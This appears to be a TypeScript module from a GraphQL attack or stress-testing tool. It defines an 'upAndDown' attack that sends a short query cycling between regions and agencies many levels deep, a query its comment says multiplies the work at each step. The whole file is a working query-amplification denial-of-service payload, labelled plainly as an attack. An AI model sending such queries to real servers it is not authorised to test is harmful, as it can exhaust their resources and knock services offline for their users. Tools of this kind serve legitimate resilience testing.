import type { Attack } from '../attack';
import { sendOperation } from '../send-operation';

/** Less than a hundred characters that go from regions to agencies and back, each step multiplying what is below. */
export const upAndDown: Attack = (address) =>
  sendOperation(address, '{rootRegions{agencies{region{agencies{region{agencies{region{agencies{region{agencies{id}}}}}}}}}}}');
